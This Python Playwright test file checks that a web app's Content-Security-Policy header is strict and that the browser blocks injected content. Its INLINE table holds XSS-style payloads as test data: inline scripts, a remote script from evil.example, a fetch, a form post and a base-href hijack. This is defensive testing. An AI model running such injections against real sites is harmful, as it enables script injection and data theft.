"""The Content-Security-Policy: strict, kept on every page, and really in force.

That no page breaks it is asked of every tab of this folder: `tab.py` listens for breaches.
"""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Response

from .server import Server
from .tab import Tab, Tabs, unwatched

SERVED = ("document", "script", "stylesheet", "fetch", "eventsource")


def test_every_response_a_page_needs_has_a_strict_policy(tabs: Tabs, server: Server) -> None:
    tab = tabs.open(server.example("crm"))
    heard: list[Response] = []
    tab.page.on("response", lambda answer: heard.append(answer))
    tab.begin("turn", "01_show_form").settle().press("Save")
    assert {answer.request.resource_type for answer in heard} >= set(SERVED)
    for answer in heard:
        if answer.status in (204, 303):
            continue
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("default-src 'none';")
        assert "unsafe-" not in policy
        assert "*" not in policy
        assert "data:" not in policy
        assert "base-uri 'none'" in policy
        assert "frame-ancestors 'none'" in policy


INLINE = {
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), "
    "{textContent: 'window.__pwned = 1'}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', "
    "'<button type=button onclick=\"window.__pwned = 1\">x</button>'); "
    "document.body.lastElementChild.click()",
    "style-src-elem": "document.head.append(Object.assign(document.createElement('style'), "
    "{textContent: 'body { display: none }'}))",
    "style-src-attr": "document.body.setAttribute('style', 'display: none')",
    "script-src-elem of another": "document.head.append(Object.assign("
    "document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "connect-src": "fetch('https://evil.example/').catch(() => 0)",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: 'https://evil.example/'}))",
    "object-src": "document.body.insertAdjacentHTML('beforeend', "
    '\'<object data="https://evil.example/x" type="text/html"></object>\')',
    "img-src": "document.body.append(Object.assign(new Image(), {src: 'data:image/gif;base64,'}))",
    "base-uri": "document.head.insertAdjacentHTML('beforeend', "
    "'<base href=\"https://evil.example/\">')",
    "form-action": "document.body.insertAdjacentHTML('beforeend', "
    "'<form action=\"https://evil.example/\" method=post></form>'); document.forms[document.forms"
    ".length - 1].submit()",
}
"""By directive, what it is there against: each must be blocked, and seen to be."""


@pytest.mark.parametrize("directive", INLINE)
def test_what_is_injected_is_blocked(tabs: Tabs, server: Server, directive: str) -> None:
    tab = tabs.open(server.example("crm")).begin("turn", "01_show_form").settle()
    with unwatched([tab], lambda _text: True):
        tab.page.evaluate(f"() => {{ {INLINE[directive]} }}")
        tab.page.wait_for_function("() => window.__breaches.length > 0")
        assert tab.page.evaluate("window.__pwned") is None
        assert tab.page.locator("h1").is_visible()
        assert any(directive.split()[0] in text for text in tab.breaches()), tab.breaches()
        assert not [text for text in tab.wrong if text.startswith("asked for")]
        tab.page.evaluate("window.__breaches.length = 0")


def test_eval_is_blocked(tabs: Tabs, server: Server) -> None:
    tab = tabs.open(server.example("crm")).open()
    with unwatched([tab], lambda _text: True):
        said = tab.page.evaluate(
            """() => new Promise(done => setTimeout(() => {
              try { done(eval('1 + 1')); } catch (error) { done(error.name); }
            }))"""
        )
        assert said == "EvalError"
        tab.page.evaluate("window.__breaches.length = 0")


def test_a_watched_tab_fails_its_test(tabs: Tabs, server: Server) -> None:
    """What watches can fail: an error, a dialog, a request, a breach."""
    tab = tabs.open(server.example("crm")).open()
    provoked: dict[str, Any] = {
        "error:": "setTimeout(() => { throw new Error('x') })",
        "console:": "console.error('x')",
        "dialog:": "setTimeout(() => alert(1))",
        "popup:": "window.open('about:blank#x')",
    }
    for kind, script in provoked.items():
        tab.page.evaluate(script)
        wait_for(tab, kind)
    assert len(tab.wrong) >= len(provoked)
    tab.wrong.clear()
    tab.page.evaluate("document.body.setAttribute('style', 'color: red')")
    tab.page.wait_for_function("() => window.__breaches.length > 0")
    assert tab.breaches()
    tab.page.evaluate("window.__breaches.length = 0")
    tab.page.wait_for_timeout(50)
    tab.wrong.clear()


def wait_for(tab: Tab, kind: str) -> None:
    for _ in range(100):
        if any(text.startswith(kind) for text in tab.wrong):
            return
        tab.page.wait_for_timeout(20)
    raise AssertionError(f"{kind} was not noticed: {tab.wrong}")
